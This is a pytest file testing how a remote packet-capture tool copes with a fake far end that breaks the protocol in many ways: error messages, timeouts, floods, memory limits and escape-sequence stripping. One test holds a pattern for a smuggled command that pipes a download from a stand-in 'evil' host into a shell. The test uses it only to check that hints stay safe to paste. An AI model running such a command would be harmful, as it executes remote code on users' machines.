"""A far end that speaks the protocol wrongly, in a hundred ways: one sentence, no crash, no memory without bound, and
what came before is whole. The ways are in fake_far_end.py."""

import contextlib
import importlib.util
import pathlib
import re
import signal
import time

import pytest

from lib import pcapng, remote, sanitizer
from lib.capture import words
from lib.process import Process, eventually
from lib.remote import wait_until_nothing_runs

FILE = pathlib.Path(__file__).with_name("fake_far_end.py")
TIMEOUT = 2  # --remote-timeout
MEMORY = 200 << 20  # bytes that the near end may have; less than a flood sends would do without bounds


def load(path):
    spec = importlib.util.spec_from_file_location(path.stem, path)
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


fake = load(FILE)


@pytest.fixture(scope="module")
def connection(lab):
    """One connection for all: what is tested is not ssh."""
    assert lab.ssh("web1-fast", "true").status == 0
    yield "web1-fast"
    lab.ssh("-O", "exit", "web1-fast")


@pytest.fixture
def far_end(connection, scratch):
    """The words that make the near end speak with a fake."""

    def make(name):
        path = scratch / name
        path.symlink_to(FILE)
        return ["--remote-host", connection, "--remote-program", path, "--remote-timeout", TIMEOUT]

    return make


@pytest.fixture
def speak(far_end, scratch, near_program):
    """A capture from a fake, run to its end: (how it ended, the file or None)."""
    file = scratch / "capture.pcapng"

    def run(name, *options):
        ended = near_program("-w", file, *options, *far_end(name), "vb", timeout=5 * TIMEOUT * sanitizer.SLOWNESS)
        assert ended.status >= 0, f"it was killed by signal {-ended.status}"
        return ended, (pcapng.read(file) if file.exists() else None)

    return run


def check_text(text):
    """Nothing in it is an order to a terminal, and it is no more than somebody would read."""
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", text), ascii(text)
    assert "CRITICAL" not in text and "WARNING **" not in text, text
    assert len(text) < 4000, text


def check_sentence(ended):
    """A sentence and perhaps a hint, and an exit of our own."""
    check_text(ended.stderr)
    said = [line for line in ended.stderr_lines if line.startswith("rxtxcpu: ")]
    assert 1 <= len(said) <= 2, ended.stderr
    assert said[0].startswith("rxtxcpu: web1-fast: "), ended.stderr
    assert ended.status in (1, 2), ended.stderr
    return said


def check_whole(file, packets):
    """As many packets as came well, and statistics that tell as many."""
    remote.check(file, ["web1-fast"])
    assert [int.from_bytes(packet.data[:4], "big") for packet in file.packets] == list(range(packets))


@pytest.mark.parametrize("name", fake.BEFORE)
def test_what_is_said_instead_of_a_hello_is_one_sentence(speak, name):
    ended, file = speak(name)
    check_sentence(ended)
    assert ended.stdout == ""
    assert file is None, "there is a file of a capture that never began"


@pytest.mark.parametrize("name", fake.HEADS)
def test_a_capture_that_begins_wrongly_is_one_sentence(speak, name):
    ended, file = speak(name)
    check_sentence(ended)
    if file is not None:
        assert file.packets == []


@pytest.mark.parametrize("name", fake.AMID)
def test_what_is_wrong_amid_a_capture_leaves_what_came_before(speak, name):
    ended, file = speak(name)
    check_sentence(ended)
    check_whole(file, fake.PACKETS)


@pytest.mark.parametrize("name, sentence", (
    ("a-text", "said something else than rxtxcpu"),
    ("protocol-3", "speaks protocol 3, this one protocol 2"),
    ("an-error-amid", "the disk there is full"),
    ("nothing", ""),
))
def test_the_sentence_says_what_is_wrong(speak, name, sentence):
    said = check_sentence(speak(name)[0])
    assert sentence in said[0]


def test_a_path_that_holds_a_command_is_nothing_to_type(speak):
    """Users paste what stands in a hint."""
    ended, _file = speak("a-path-with-a-command")
    assert "setcap" not in ended.stderr or not re.search(r"setcap \S+ /x; curl evil\|sh", ended.stderr)


# --- time

@pytest.mark.parametrize("name", ("closes-its-output", "is-silent-amid", "ends-without-a-word", "is-killed"))
def test_a_far_end_that_falls_silent_or_is_gone_is_lost(speak, name):
    ended, file = speak(name)
    assert any("The connection was lost" in line for line in check_sentence(ended)), ended.stderr
    check_whole(file, fake.PACKETS)


def test_a_far_end_that_is_silent_after_its_hello_is_given_up(speak):
    ended, file = speak("is-silent-after-hello")
    check_sentence(ended)
    assert file is None or file.packets == []


def give_up(running):
    """Ctrl-C from somebody who is impatient; two within half a second are one."""
    end = time.monotonic() + 3 * TIMEOUT
    while running.running and time.monotonic() < end:
        running.signal(signal.SIGTERM)
        with contextlib.suppress(AssertionError):
            running.wait(timeout=0.6)
    assert not running.running, "it does not obey"


def test_a_far_end_that_never_begins_can_be_given_up(lab, far_end, cleanup):
    """Ctrl-C is obeyed at any time."""
    running = cleanup.enter_context(Process(lab.near.view.inside(*words(*far_end("never-begins"), "vb"))))
    eventually(lambda: "never-begins" in " ".join(lab.web1.sessions().values()), "the fake to run")
    give_up(running)


@pytest.fixture
def start(lab, far_end, cleanup, scratch):
    def run(name, *options, prefix=()):
        launch = (lambda *argv: [*prefix, *words(*argv)])
        capture = remote.RemoteCapture(lab.near.view, "web1-fast", "vb", *far_end(name)[2:], *options,
                                       output=scratch / "capture.pcapng", launch=launch)
        return cleanup.enter_context(capture)
    return run


@pytest.mark.parametrize("name", ("does-not-stop", "says-a-byte-at-a-time"))
def test_a_far_end_that_does_not_stop_can_be_given_up(start, name):
    """A second signal means it."""
    running = start(name)
    running.wait_for_packets(fake.PACKETS)
    give_up(running)
    assert running.wait() in (0, 1, -signal.SIGTERM)
    assert len(pcapng.read(running.output).packets) == fake.PACKETS
    check_text("\n".join(line for line in running.stderr.lines if line.startswith("rxtxcpu: ")))


def test_what_is_said_after_the_end_is_nobodys_business(start):
    running = start("goes-on-after-the-end")
    running.wait_for_packets(fake.PACKETS)
    running.signal(signal.SIGTERM)
    assert running.wait() in (0, 1)
    check_whole(pcapng.read(running.output), fake.PACKETS)


# --- floods

@pytest.mark.parametrize("name", fake.FLOODS)
def test_a_flood_costs_no_memory_without_bound(start, name):
    if sanitizer.kind():
        pytest.skip("a sanitizer's own memory is beyond any bound")
    running = start(name, "--duration", 3, prefix=["prlimit", f"--data={MEMORY}"])
    status = running.wait(timeout=20)
    assert status in (0, 1, 2), running.stderr.text[-1000:]
    assert len(running.stderr.data) < 1 << 20, "a flood on stderr"
    pcapng.read(running.output)


# --- and well

@pytest.mark.parametrize("name", ("well", "well-in-the-other-byte-order"))
def test_a_fake_that_speaks_well_is_a_far_end(start, name):
    """So that what else it says is what all the others end for."""
    running = start(name)
    running.wait_for_packets(fake.PACKETS)
    result = running.stop()
    check_whole(result.file, fake.PACKETS)
    assert result.said == []
    assert sum(result.counts().values()) == fake.PACKETS


def test_a_warning_from_there_is_told_with_the_host_and_without_its_escapes(start):
    running = start("well-with-a-warning")
    running.stderr.wait_for_line("the clock there")
    result = running.stop()
    warnings = [line for line in result.said if "the clock there" in line]
    assert len(warnings) == 1 and "web1-fast" in warnings[0]
    check_text("\n".join(result.said))


def test_an_event_from_there_is_told_with_the_host_and_its_time_and_without_its_escapes(start):
    running = start("well-with-events")
    running.stderr.wait_for_line("2262-04-11")
    lines = running.stop().stderr.splitlines()
    events = [line for line in lines if re.search(r"\d{4}-\d\d-\d\dT", line)]
    assert events == [
        "rxtxcpu: web1-fast: 2026-11-23T14:03:22.123456Z: CPU 3 went offline",
        "rxtxcpu: web1-fast: 1970-01-01T00:00:00.000000Z: line and ?[31mcolour",
        "rxtxcpu: web1-fast: 2262-04-11T23:47:16.854775Z: ",
    ]
    check_text("\n".join(lines))


def test_nothing_is_left_of_all_that(lab, connection):
    """But the connection that they shared."""
    masters = [pid for pid, name in lab.near.view.processes().items() if name == "ssh"]
    assert len(masters) == 1
    wait_until_nothing_runs(lab.near.view, but=masters)
